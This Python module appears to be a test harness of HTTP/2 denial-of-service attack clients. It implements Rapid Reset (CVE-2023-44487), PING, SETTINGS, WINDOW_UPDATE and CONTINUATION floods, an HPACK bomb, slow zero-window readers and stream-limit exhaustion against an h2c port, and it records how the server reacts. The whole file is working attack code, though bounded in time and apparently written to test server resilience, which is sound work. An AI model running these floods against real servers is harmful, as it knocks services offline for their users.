"""HTTP/2 attack clients: the published floods against a server's cleartext (h2c, prior knowledge) port.

The legitimate frames come from the `h2` library (the preface, SETTINGS, requests, resets); what h2 refuses to
produce, or produces one at a time where a flood needs thousands, is built from `hyperframe` frames and `hpack`
integers. The server's answer is read raw, frame by frame, so a server that misbehaves cannot make the observer
fail: each attack returns an `Outcome` saying what the server did (GOAWAY and its code, a closed connection, a
stop in reading, streams reset, or nothing: it kept going). Every attack is bounded in time and in what it sends.

    outcome = rapid_reset("127.0.0.1", port, seconds=5)
    outcome.goaway        # "ENHANCE_YOUR_CALM", or None if the server sent no GOAWAY
"""

from __future__ import annotations

import contextlib
import select
import socket
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

import h2.events
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

CLOSE_WAIT = 8  # tcp_info's first byte, the connection's state: the peer sent its FIN


def code_name(code: int) -> str:
    with contextlib.suppress(ValueError):
        return ErrorCodes(code).name
    return f"0x{code:x}"


@dataclass
class Outcome:
    """What one attack sent and what the server did, seconds counted from the attack's start."""

    attack: str
    sent: int = 0  # the attack's unit: streams, frames or header references, per `unit`
    unit: str = "frames"
    goaway: str | None = None
    goaway_last_stream: int | None = None
    goaway_after: float | None = None
    closed_after: float | None = None  # the server closed the connection (EOF, reset)
    stalled_after: float | None = None  # the server stopped reading: a write blocked for a whole second
    resets: Counter[str] = field(default_factory=Counter)  # RST_STREAM received, by code
    responses: int = 0  # response HEADERS received
    connections: int = 1
    open_at_end: int = 0  # connections the server still held when the attack ended
    discarded: tuple[int, float] | None = None  # bytes the server took after its FIN, and for how long

    def summary(self) -> str:
        """One short line: what the server did."""
        parts = []
        if self.goaway:  # read when the attacker reads: a flood's comes with its close, whose time is given
            at = f" at {self.goaway_after:.1f} s" if self.closed_after is None else ""
            parts.append(f"GOAWAY {self.goaway}{at}")
        if self.resets:
            parts.append(", ".join(f"{count:,} RST {code}" for code, count in self.resets.most_common()))
        if self.stalled_after is not None:
            parts.append(f"stopped reading at {self.stalled_after:.1f} s")
        if self.closed_after is not None:
            parts.append(f"closed at {self.closed_after:.2f} s")
        if self.discarded is not None:
            parts.append(f"then took {self.discarded[0] / 2**20:,.0f} MiB more in {self.discarded[1]:.1f} s")
        if self.connections > 1:
            parts.append(f"{self.open_at_end} of {self.connections} connections open at the end")
        if not parts:
            parts.append("kept going")
        return "; ".join(parts)


class Peer:
    """One h2c connection: `h2` writes the legitimate frames, raw bytes go out as given, the server's frames are
    read raw into the shared `Outcome`."""

    def __init__(self, host: str, port: int, outcome: Outcome, started: float,
                 settings: dict[SettingCodes | int, int] | None = None, replenish: bool = True) -> None:
        self.host, self.outcome, self.started, self.replenish = host, outcome, started, replenish
        self.authority = f"{host}:{port}".encode()
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(1.0)
        self.h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        self.h2.initiate_connection()
        if settings:
            self.h2.update_settings(settings)
        self.buffer = bytearray()
        self.server_settings: dict[int, int] = {}
        self.closed = self.broken = False
        self.send(self.h2.data_to_send())

    def elapsed(self) -> float:
        return time.monotonic() - self.started

    def request_headers(self, method: bytes = b"GET", path: bytes = b"/") -> list[tuple[bytes, bytes]]:
        return [(b":method", method), (b":path", path), (b":scheme", b"http"), (b":authority", self.authority)]

    def send(self, data: bytes) -> bool:
        """False once the server closed the connection or stopped reading (the attack then ends)."""
        if self.closed or self.broken or self.outcome.stalled_after is not None:
            return False
        try:
            self.sock.sendall(data)
        except TimeoutError:
            self.outcome.stalled_after = self.elapsed()
            return False
        except OSError:
            self.broken = True
            self.pump(0)  # a GOAWAY sent before the close may still be waiting to be read
            self.mark_closed()
            return False
        if self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == CLOSE_WAIT:
            # the server closed its side (its FIN came) while we did not read: the attack is over even if the
            # server still reads and discards what we send (a linger)
            self.broken = True  # what was just written counts as sent; the next write is refused
            if self.outcome.closed_after is None:
                self.outcome.closed_after = self.elapsed()
        return True

    def flush(self) -> bool:
        return self.send(self.h2.data_to_send())

    def mark_closed(self) -> None:
        if not self.closed:
            self.closed = True
            if self.outcome.closed_after is None:
                self.outcome.closed_after = self.elapsed()

    def pump(self, seconds: float, until: Callable[[], bool] | None = None) -> None:
        """Read and observe the server's frames for up to `seconds` (0: what is already there)."""
        end = time.monotonic() + seconds
        while not self.closed:
            if until is not None and until():
                return
            wait = max(0.0, end - time.monotonic())
            if not select.select([self.sock], [], [], wait)[0]:
                if wait == 0:
                    return
                continue
            try:
                data = self.sock.recv(1 << 20)
            except (TimeoutError, BlockingIOError):
                continue
            except OSError:
                data = b""
            if not data:
                self.mark_closed()
                return
            self.buffer += data
            self.observe()
            if time.monotonic() >= end:
                return

    def observe(self) -> None:
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            del self.buffer[:9 + length]
            self.handle(frame)

    def handle(self, frame: Frame) -> None:
        outcome = self.outcome
        if isinstance(frame, GoAwayFrame) and outcome.goaway is None:
            outcome.goaway, outcome.goaway_after = code_name(frame.error_code), self.elapsed()
            outcome.goaway_last_stream = frame.last_stream_id
        elif isinstance(frame, RstStreamFrame):
            outcome.resets[code_name(frame.error_code)] += 1
        elif isinstance(frame, HeadersFrame):
            outcome.responses += 1
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.server_settings.update(frame.settings)
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, DataFrame) and self.replenish and frame.flow_controlled_length:
            size = frame.flow_controlled_length
            self.send(WindowUpdateFrame(0, window_increment=size).serialize()
                      + WindowUpdateFrame(frame.stream_id, window_increment=size).serialize())

    def close(self) -> bool:
        """Closes our side; True if the server still held the connection."""
        if not self.closed:
            self.pump(0)
        held = not self.closed
        self.sock.close()
        return held


def flood(name: str, host: str, port: int, frame: bytes, seconds: float, batch: int = 1000) -> Outcome:
    """Writes the same frame as fast as the server takes it, reading nothing meanwhile (a peer that never reads
    makes a server queue every answer a SETTINGS or PING asks for), then reads what the server said."""
    outcome, started = Outcome(name), time.monotonic()
    peer = Peer(host, port, outcome, started)
    peer.pump(0.5, until=lambda: bool(peer.server_settings))
    chunk = frame * batch
    while time.monotonic() - started < seconds and peer.send(chunk):
        outcome.sent += batch
    peer.pump(2.0, until=lambda: outcome.goaway is not None)
    if outcome.closed_after is not None and not peer.closed:
        outcome.discarded = discarded(peer.sock, chunk)
    outcome.open_at_end = int(peer.close())
    return outcome


def discarded(sock: socket.socket, chunk: bytes, seconds: float = 5.0) -> tuple[int, float]:
    """After the server's FIN: the bytes it still takes (reads and discards, or lets queue) until it resets the
    connection or stops taking them, and for how long."""
    started, taken = time.monotonic(), 0
    sock.settimeout(0.5)
    while time.monotonic() - started < seconds:
        try:
            taken += sock.send(chunk)
        except OSError:
            break
    return taken, time.monotonic() - started


def settings_flood(host: str, port: int, seconds: float = 5) -> Outcome:
    """SETTINGS frames (a no-op setting), each of which the server must acknowledge."""
    frame = SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize()
    return flood("SETTINGS flood", host, port, frame, seconds)


def ping_flood(host: str, port: int, seconds: float = 5) -> Outcome:
    """PING frames, each of which the server must answer (CVE-2019-9512)."""
    return flood("PING flood", host, port, PingFrame(0, opaque_data=b"corral!!").serialize(), seconds)


def window_update_flood(host: str, port: int, seconds: float = 5) -> Outcome:
    """WINDOW_UPDATE frames of 1 byte on the connection: work for the server, no answer expected."""
    return flood("WINDOW_UPDATE flood", host, port, WindowUpdateFrame(0, window_increment=1).serialize(), seconds)


def rapid_reset(host: str, port: int, seconds: float = 5, batch: int = 100, limit: int = 200_000) -> Outcome:
    """CVE-2023-44487: a request opened and reset at once (HEADERS then RST_STREAM CANCEL), over and over; the
    reset stream no longer counts against the concurrency limit, the work it started on the server may."""
    outcome, started = Outcome("rapid reset", unit="streams"), time.monotonic()
    peer = Peer(host, port, outcome, started)
    headers = peer.request_headers()
    while time.monotonic() - started < seconds and outcome.sent < limit and not peer.closed:
        for _ in range(batch):
            stream = peer.h2.get_next_available_stream_id()
            peer.h2.send_headers(stream, headers, end_stream=True)
            peer.h2.reset_stream(stream, ErrorCodes.CANCEL)
        if not peer.flush():
            break
        outcome.sent += batch
        peer.pump(0)
    peer.pump(2.0, until=lambda: outcome.goaway is not None)
    outcome.open_at_end = int(peer.close())
    return outcome


def header_block(peer: Peer, stream: int, block: bytes, end_stream: bool = True, end_headers: bool = True,
                 size: int = 16384) -> bytes:
    """A header block as HEADERS and CONTINUATION frames of at most `size` bytes each."""
    pieces = [block[i:i + size] for i in range(0, len(block), size)] or [b""]
    frames: list[Frame] = []
    for index, piece in enumerate(pieces):
        last = index == len(pieces) - 1 and end_headers
        flags = ["END_HEADERS"] if last else []
        if index == 0:
            frames.append(HeadersFrame(stream, piece, flags=[*flags, *(["END_STREAM"] if end_stream else [])]))
        else:
            frames.append(ContinuationFrame(stream, piece, flags=flags))
    return b"".join(frame.serialize() for frame in frames)


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """An HPACK literal header field with a new name, added to the dynamic table if `indexed`."""
    return (b"\x40" if indexed else b"\x00") + bytes(encode_integer(len(name), 7)) + name + \
        bytes(encode_integer(len(value), 7)) + value


def request_block(peer: Peer) -> bytes:
    """GET / as an HPACK block that adds nothing to the dynamic table (static indexes and one literal)."""
    return b"\x82\x86\x84\x01" + bytes(encode_integer(len(peer.authority), 7)) + peer.authority


def continuation_flood(host: str, port: int, seconds: float = 5) -> Outcome:
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames of 16 KiB without end: a server that
    buffers the block until it ends holds all of it (h2 will not send such a block, so the frames are raw)."""
    outcome, started = Outcome("CONTINUATION flood"), time.monotonic()
    peer = Peer(host, port, outcome, started)
    peer.pump(0.5, until=lambda: bool(peer.server_settings))
    peer.send(header_block(peer, 1, request_block(peer), end_headers=False))
    fragment = literal(b"x-flood", b"a" * 16370)
    frames = ContinuationFrame(1, fragment).serialize() * 16
    while time.monotonic() - started < seconds and peer.send(frames):
        outcome.sent += 16
        peer.pump(0)
    peer.pump(2.0, until=lambda: outcome.goaway is not None)
    outcome.open_at_end = int(peer.close())
    return outcome


def hpack_bomb(host: str, port: int, seconds: float = 5, streams: int = 20, references: int = 65536) -> Outcome:
    """A 4 KiB header put in the server's HPACK dynamic table once, then referenced by its one-byte index
    `references` times per request: 64 KiB on the wire, 256 MiB of header list if decoded without limit."""
    outcome, started = Outcome("HPACK bomb", unit="header references"), time.monotonic()
    peer = Peer(host, port, outcome, started)
    peer.pump(0.5, until=lambda: bool(peer.server_settings))
    bomb = literal(b"x-bomb", b"b" * 4000, indexed=True)  # 32 + 6 + 4000 bytes: fits the default 4096 table
    for index in range(streams):
        block = request_block(peer) + (bomb if index == 0 else b"") + b"\xbe" * references  # index 62: newest
        if time.monotonic() - started > seconds or not peer.send(header_block(peer, 1 + 2 * index, block)):
            break
        outcome.sent += references
        peer.pump(0.2, until=lambda: outcome.goaway is not None)
        if outcome.goaway is not None:
            break
    peer.pump(2.0, until=lambda: outcome.goaway is not None)
    outcome.open_at_end = int(peer.close())
    return outcome


def pump_all(peers: list[Peer], started: float, seconds: float, interval: float) -> int:
    """Read every peer's connection in turn until `seconds` from `started` or until all are closed; then close
    them. Returns how many the server had left open."""
    while time.monotonic() - started < seconds and any(not peer.closed for peer in peers):
        for peer in peers:
            peer.pump(interval)
    return sum(peer.close() for peer in peers)


def zero_window(host: str, port: int, seconds: float = 10, connections: int = 4, streams: int = 100) -> Outcome:
    """Slow readers: each connection sets its streams' initial window to 0 and asks for `streams` 256 KiB
    responses it never opens a window for; it does read (and acknowledges SETTINGS), so it is HTTP/2's flow
    control that holds the responses, not TCP."""
    outcome, started = Outcome("zero-window readers", unit="streams", connections=connections), time.monotonic()
    peers = [Peer(host, port, outcome, started, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}, replenish=False)
             for _ in range(connections)]
    for peer in peers:
        headers = peer.request_headers(path=b"/big")
        for _ in range(streams):
            peer.h2.send_headers(peer.h2.get_next_available_stream_id(), headers, end_stream=True)
        if peer.flush():
            outcome.sent += streams
    outcome.open_at_end = pump_all(peers, started, seconds, 0.05)
    return outcome


def idle(host: str, port: int, seconds: float = 20, connections: int = 50) -> Outcome:
    """Connections that send the preface and SETTINGS, then no stream at all."""
    outcome, started = Outcome("idle, no stream", unit="connections", connections=connections), time.monotonic()
    peers = [Peer(host, port, outcome, started) for _ in range(connections)]
    outcome.sent = connections
    outcome.open_at_end = pump_all(peers, started, seconds, 0.02)
    return outcome


def beyond_limit(host: str, port: int, seconds: float = 5, extra: int = 50) -> Outcome:
    """As many open streams as the server's SETTINGS_MAX_CONCURRENT_STREAMS allows (1000 if it sets none), plus
    `extra`: POSTs to /echo whose body never comes, so every stream stays open. h2 sends them, as it does not
    see the server's SETTINGS (the observer reads them)."""
    outcome, started = Outcome("streams beyond the limit", unit="streams"), time.monotonic()
    peer = Peer(host, port, outcome, started)
    peer.pump(2.0, until=lambda: bool(peer.server_settings))
    allowed = peer.server_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS, 1000)
    headers = peer.request_headers(method=b"POST", path=b"/echo")
    for _ in range(allowed + extra):
        peer.h2.send_headers(peer.h2.get_next_available_stream_id(), headers, end_stream=False)
    if peer.flush():
        outcome.sent = allowed + extra
    peer.pump(seconds, until=lambda: peer.closed)
    outcome.open_at_end = int(peer.close())
    return outcome


ATTACKS: dict[str, Callable[[str, int], Outcome]] = {
    "rapid-reset": rapid_reset,
    "continuation": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "settings": settings_flood,
    "ping": ping_flood,
    "window-update": window_update_flood,
    "zero-window": zero_window,
    "idle": idle,
    "beyond-limit": beyond_limit,
}


@dataclass
class Answer:
    status: int
    body: bytes
    seconds: float


def probe(host: str, port: int, path: str = "/", timeout: float = 5.0) -> Answer:
    """A well-behaved client: one GET on a new h2c connection, with h2 doing the whole protocol. Raises OSError
    (TimeoutError included) when it gets no complete answer within `timeout`."""
    started = time.monotonic()
    with socket.create_connection((host, port), timeout=timeout) as sock:
        conn = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        conn.initiate_connection()
        conn.send_headers(1, [(b":method", b"GET"), (b":path", path.encode()), (b":scheme", b"http"),
                              (b":authority", f"{host}:{port}".encode())], end_stream=True)
        sock.sendall(conn.data_to_send())
        status, body = 0, bytearray()
        while True:
            sock.settimeout(max(0.01, timeout - (time.monotonic() - started)))
            data = sock.recv(65536)
            if not data:
                raise ConnectionError("the server closed the connection before answering")
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[b":status"])
                elif isinstance(event, h2.events.DataReceived):
                    body += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    return Answer(status, bytes(body), time.monotonic() - started)
                elif isinstance(event, h2.events.StreamReset | h2.events.ConnectionTerminated):
                    raise ConnectionError(f"the server ended the request: {event}")
            sock.sendall(conn.data_to_send())
